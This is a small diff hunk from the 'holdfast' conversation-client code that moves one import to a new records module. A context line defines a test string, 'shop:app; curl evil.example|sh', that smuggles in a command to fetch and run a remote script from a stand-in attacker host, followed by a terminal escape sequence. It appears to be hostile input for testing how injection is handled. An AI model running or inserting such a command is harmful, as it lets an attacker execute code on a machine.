@@ -9,7 +9,7 @@ from holdfast.client import ConversationState
 from holdfast.client.results import PendingCall
 from holdfast.client.stack import announce
 from holdfast.conversation import Status, SuspensionKind
-from holdfast.conversation.calls import Cut, PendingView
+from holdfast.conversation.records.calls import Cut, PendingView
 
 WRITTEN = "shop:app; curl evil.example|sh\n\x1b[2K"
 STANDING = {"turn_id": None, "reply": None, "error": None, "pending": [], "running": [], "seq": 1}
